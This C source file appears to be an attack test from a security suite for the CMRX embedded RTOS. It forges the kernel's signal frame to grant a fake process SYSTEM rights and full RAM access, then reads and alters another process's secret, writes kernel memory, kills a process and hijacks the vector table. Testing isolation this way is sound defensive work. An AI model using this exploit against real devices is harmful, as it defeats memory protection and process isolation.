/* Attack: forge the kernel's signal frame.
 *
 * A thread moves its stack pointer into its own .bss and raises a signal.
 * If the kernel builds the signal frame where the stack pointer says, the
 * handler can reach it and rewrite the saved context the handler's return
 * restores: its memory map (here, a fake process whose map grants all of
 * RAM and whose flags say SYSTEM) and, through that fake process's restart
 * policy, privileged copies that point the vector table at the attacker's
 * code. Each step that works prints ATTACK SUCCEEDED. */
#include "attack.h"

#define SIGUSR CMRX_SIGUSR1

/* A mirror of the kernel's process declaration (kernel/src/kernel.h) as an
 * attacker would write it from the sources. */
struct fake_state {
    uint16_t restarts;
    uint8_t flags;
    uint8_t doomed;
};
struct fake_process {
    uint32_t mpu[8];
    const char *name;
    const void *data_start, *data_end, *data_load;
    const void *bss_start, *bss_end;
    const void *shared_start, *shared_end, *shared_load;
    const void *autostart, *autostart_end, *vtables, *vtables_end, *irqs;
    struct fake_state *state;
    const void *stack_base;
    uint32_t stack_size, stack_mpu_attr;
    uint8_t first_thread, max_threads, first_timer, max_timers, priority, flags, policy, n_irqs;
};

#if defined(__ARM_FP)
#define FRAME_SIZE 144u /* cmrx_call_frame with FP registers in the context */
#else
#define FRAME_SIZE 80u
#endif
#define FRAME_SAVED       6u /* word offsets in the frame: saved context */
#define FRAME_SAVED_SP    (FRAME_SAVED + 0u)
#define FRAME_SAVED_IMAGE (FRAME_SAVED + 10u)
#define FRAME_SAVED_STACK (FRAME_SAVED + 11u)

#define VECTORS (16u + CMRX_IRQ_COUNT)
#define SCB_VTOR 0xE000ED08u

#if defined(CMRX_ATTACK_ARMV8M)
/* PMSAv8 regions may not overlap: the stack region, stretched up to the
 * frame, must end below the process's .data region, which holds the
 * frame's saved memory map. So the stack pointer goes just above the start
 * of .data: the frame straddles it, and the handler's stack lies in what
 * the layout put below .data. The sizes (stacks biggest, then .bss, see
 * list.cmake and `ballast`) make that this process's unused third stack. */
extern uint8_t __cmrx_p_attack_sigframe_data_start[];
static volatile uint8_t ballast[3072];
/* The first words of .data, where the frame lands: nothing else of ours. */
static volatile uint32_t landing[64] = {1};
#define FAKE_SP ((uintptr_t)__cmrx_p_attack_sigframe_data_start + 128u)
#else
/* In .shared, which the layout puts above the stack slot here. */
CMRX_SHARED static uint8_t fake_stack[1024] __attribute__((aligned(32)));
#define FAKE_SP ((uintptr_t)(fake_stack + sizeof(fake_stack)))
#endif
static struct fake_process fake;
static struct fake_state fake_state;
static uint32_t fake_vectors[VECTORS] __attribute__((aligned(1024)));
static uint32_t fake_vtor;
static volatile uint32_t evil_ran;
static volatile int forged;
static const char fake_name[] = "forged";
static volatile uintptr_t real_sp;

/* Runs privileged, in Handler mode, for whatever exception comes first
 * once the vector table is ours: put the real table back, note which
 * exception it was and go on to the real handler. r0-r3 are free (the
 * hardware saved them). */
__attribute__((naked)) static void evil(void)
{
    __asm volatile("ldr r0, =%c[vtor]\n\t"
                   "ldr r1, =%c[real]\n\t"
                   "str r1, [r0]\n\t"
                   "dsb\n\t"
                   "isb\n\t"
                   "mrs r2, ipsr\n\t"
                   "ldr r3, =evil_ran_addr\n\t"
                   "ldr r3, [r3]\n\t"
                   "str r2, [r3]\n\t"
                   "ldr r3, [r1, r2, lsl #2]\n\t"
                   "bx r3\n\t"
                   ".ltorg\n\t"
                   :
                   : [vtor] "i"(SCB_VTOR), [real] "i"(CMRX_FLASH_BASE));
}
volatile uint32_t *const evil_ran_addr __attribute__((used)) = &evil_ran;

static void make_fake_map(const uint32_t *frame)
{
#if defined(CMRX_ATTACK_ARMV8M)
    /* PMSAv8: regions may not overlap, so all of RAM but this thread's
     * stack slot (region 2, from the saved context) in two regions. */
    uint32_t slot = frame[FRAME_SAVED_STACK] & ~31u;
    uint32_t slot_end = (frame[FRAME_SAVED_STACK + 1] & ~31u) + 32u;
    fake.mpu[0] = CMRX_RAM_BASE | (1u << 1) | 1u; /* RW any privilege, XN */
    fake.mpu[1] = ((slot - 1u) & ~31u) | 1u;
    fake.mpu[2] = slot_end | (1u << 1) | 1u;
    fake.mpu[3] = ((CMRX_RAM_BASE + CMRX_RAM_SIZE - 1u) & ~31u) | 1u;
#else
    (void)frame;
    /* PMSAv7: region 2 is all of RAM, full access; 3..5 off. */
    fake.mpu[0] = CMRX_RAM_BASE | (1u << 4) | 2u;
    fake.mpu[1] = (1u << 28) | (3u << 24) | (1u << 17) | (1u << 16) |
                  ((uint32_t)(__builtin_ctz(CMRX_RAM_SIZE) - 1) << 1) | 1u;
    for (unsigned r = 1; r < 4; r++) {
        fake.mpu[2 * r] = (1u << 4) | (2u + r);
        fake.mpu[2 * r + 1] = 0;
    }
#endif
    fake.name = fake_name;
    fake.state = &fake_state;
    fake.flags = 1;  /* CMRX_PROC_SYSTEM */
    fake.policy = 2; /* restart */
}

static void handler(uint32_t signals)
{
    (void)signals;
    uintptr_t sp_at_signal = FAKE_SP - 32u;
    uint32_t *frame = (uint32_t *)((sp_at_signal - FRAME_SIZE) & ~(uintptr_t)7u);
    /* Check it is the frame: its saved stack region holds the forger's
     * real stack. (On ARMv8-M the first words of the frame are not
     * readable: only from its saved memory map on.) */
    uintptr_t slot = frame[FRAME_SAVED_STACK] & ~31u;
    if (!(slot <= real_sp && real_sp - slot < 0x10000u)) {
        cmrx_printf("attack_sigframe: no signal frame where the stack pointer was\n");
        return;
    }
#if defined(CMRX_ATTACK_ARMV8M)
    /* The handler's stack region now runs from this thread's slot up to
     * the frame, over what lies between. */
    uintptr_t slot_end = (frame[FRAME_SAVED_STACK + 1] & ~31u) + 32u;
    uintptr_t here = (uintptr_t)&frame;
    unsigned hits = secret_hits((const volatile uint32_t *)slot_end, (unsigned)((here - 64u - slot_end) / 4u));
    if (hits > 0) {
        ATTACK_SUCCEEDED("a signal handler read %u words of the victim's stack", hits);
    }
#endif
    make_fake_map(frame);
    frame[FRAME_SAVED_IMAGE] = (uint32_t)(uintptr_t)&fake;
    forged = 1;
}

extern uint8_t __cmrx_kbss_start[];

static int forger(void *arg)
{
    (void)arg;
    volatile uint32_t here = 0;
    real_sp = (uintptr_t)&here;
    cmrx_signal_handler(handler);
    /* Raise the signal with the stack pointer in .bss. */
    register uint32_t r0 __asm("r0") = (uint32_t)cmrx_thread_self();
    register uint32_t r1 __asm("r1") = SIGUSR;
    register uint32_t top __asm("r2") = (uint32_t)FAKE_SP;
    __asm volatile("mov r4, sp\n\t"
                   "mov sp, r2\n\t"
                   "bl cmrx_signal_send\n\t"
                   "mov sp, r4\n\t"
                   : "+r"(r0), "+r"(r1), "+r"(top)
                   :
                   : "r3", "r4", "r12", "lr", "memory");
    if (!forged) {
        cmrx_printf("attack_sigframe: the signal frame was not forged\n");
        return 0;
    }
    /* Running with the forged context now, if the kernel took it. */
    unsigned hits = secret_hits(victim_secret, SECRET_WORDS);
    if (hits > 0) {
        ATTACK_SUCCEEDED("read %u words of the victim's secret", hits);
        victim_secret[0] ^= 1u;
        ATTACK_SUCCEEDED("changed the victim's secret");
    }
    volatile uint32_t *k = (volatile uint32_t *)(void *)__cmrx_kbss_start;
    uint32_t v = *k;
    *k = v;
    ATTACK_SUCCEEDED("read and wrote kernel RAM at %p", (void *)__cmrx_kbss_start);
    if (cmrx_process_control(3, CMRX_PROC_KILL) == CMRX_OK) {
        ATTACK_SUCCEEDED("killed another process with forged SYSTEM rights");
    }
    /* The fake process's restart copies fake_vtor into VTOR. */
    for (unsigned i = 0; i < VECTORS; i++) {
        fake_vectors[i] = (uint32_t)(uintptr_t)evil;
    }
    fake_vtor = (uint32_t)(uintptr_t)fake_vectors;
    fake.data_start = (const void *)SCB_VTOR;
    fake.data_end = (const void *)(SCB_VTOR + 4u);
    fake.data_load = &fake_vtor;
    __asm volatile("udf #7");
    return 0;
}

static int attack(void *arg)
{
    (void)arg;
#if defined(CMRX_ATTACK_ARMV8M)
    ballast[0] = 1;
    if ((uintptr_t)landing != (uintptr_t)__cmrx_p_attack_sigframe_data_start) {
        cmrx_printf("attack_sigframe: .data does not start with the landing area\n");
    }
#endif
    cmrx_tid_t t = cmrx_thread_create(forger, NULL, 20);
    int code = 0;
    cmrx_thread_join(t, &code);
    cmrx_usleep(5000);
    if (evil_ran != 0) {
        ATTACK_SUCCEEDED("ran code in Handler mode (exception %lu)", (unsigned long)evil_ran);
    }
    attack_done(1);
    return 0;
}
CMRX_THREAD(attack, NULL);
